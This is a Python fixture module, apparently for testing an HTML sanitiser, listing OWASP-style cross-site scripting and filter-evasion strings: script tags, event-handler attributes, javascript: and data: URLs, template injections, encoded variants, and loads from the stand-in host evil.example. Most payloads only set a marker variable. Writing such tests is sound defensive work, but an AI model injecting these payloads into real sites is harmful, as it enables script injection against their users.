"""Texts that run a script, or load something from elsewhere, in a page that takes them for markup.

They are of the kinds of OWASP's cheat sheet on filter evasion. A script that runs sets ``window.ran`` or
opens a dialog.
"""

from __future__ import annotations

from typing import Final

ELSEWHERE: Final = "http://evil.example"
"""The origin of what is loaded."""

TEXTS: Final = (
    # elements that run a script as soon as they are there
    "<script>alert(1)</script>",
    "<SCRIPT>window.ran=1</SCRIPT>",
    "<script\n>window.ran=1</script\n>",
    "<<script>window.ran=1;//<</script>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script src=//{ELSEWHERE[7:]}/x.js>",
    "<script>window.ran=1",
    "</title><script>window.ran=1</script>",
    "</textarea><script>window.ran=1</script>",
    "</style><script>window.ran=1</script>",
    "]]><script>window.ran=1</script>",
    "'\"><script>window.ran=1</script>",
    "';window.ran=1;//\";window.ran=1;//--></script>\">'><script>window.ran=1</script>",
    # attributes that hold one
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=window.ran=1>",
    "<img/src=x/onerror=window.ran=1>",
    "<img src='x'onerror='window.ran=1'>",
    '<img """><script>window.ran=1</script>">',
    "<img src=x:x onerror=&#119;indow.ran=1>",
    "<img src=x onerror=\\u0077indow.ran=1>",
    "<img src=x onerror=eval(atob('d2luZG93LnJhbj0x'))>",
    "<img src=x onerror=`window.ran=1`>",
    "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><script href=data:text/javascript,window.ran=1 /></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:window.ran=1"><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<body onload=window.ran=1>",
    "<body onpageshow=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<video src=x onerror=window.ran=1>",
    "<video><source onerror=window.ran=1>",
    "<iframe onload=window.ran=1>",
    "<object data=x onerror=window.ran=1>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=window.ran=1>x</b>",
    "<b onmouseover=window.ran=1 style=position:fixed;inset:0>x</b>",
    "<div contenteditable onblur=window.ran=1 tabindex=1 autofocus>x</div>",
    '" onmouseover="window.ran=1',
    '" autofocus onfocus="window.ran=1" x="',
    # addresses that are scripts
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>parent.ran=1</script>">',
    "<embed src=javascript:window.ran=1>",
    "<object data=javascript:window.ran=1>",
    "<form action=javascript:window.ran=1><button autofocus>x</button></form>",
    "<a href=javascript:window.ran=1>x</a>",
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1//http://x",
    "java\tscript:window.ran=1",
    "javascript://x/%0Awindow.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "http://x\"onmouseover=window.ran=1//",
    "http://x/'><img src=x onerror=window.ran=1>",
    "https://user:pass@x/<script>window.ran=1</script>",
    "mailto:x@x\"><script>window.ran=1</script>",
    "[x](javascript:window.ran=1)",
    "![x](x\"onerror=\"window.ran=1)",
    "`<img src=x onerror=window.ran=1>`",
    "```\n<img src=x onerror=window.ran=1>\n```",
    # what loads something from elsewhere, or leads there
    f"<img src={ELSEWHERE}/x.png>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<b style=\"background:url({ELSEWHERE}/x.png)\">x</b>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}/x.swf>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>parent.ran=1</script>'>",
    # what templates, and other languages, take for code
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "<%= window.ran=1 %>",
    "<template><img src=x onerror=window.ran=1></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "＜script＞window.ran=1＜/script＞",
    "__proto__",
    "constructor",
    "\u202e<script>window.ran=1</script>\u202c",
)  # fmt: skip

NAMES: Final = (
    "<script>ran=1</script>",
    "<svg/onload=ran=1>",
    "<img/src=x/onerror=ran=1>",
    '"><svg/onload=ran=1>',
    "'-alert(1)-'",
    '"onfocus=ran=1//',
    "x${ran=1}",
    "{{ran=1}}",
    "__proto__",
    "constructor",
    "toString",
)
"""The same as names of users and groups."""
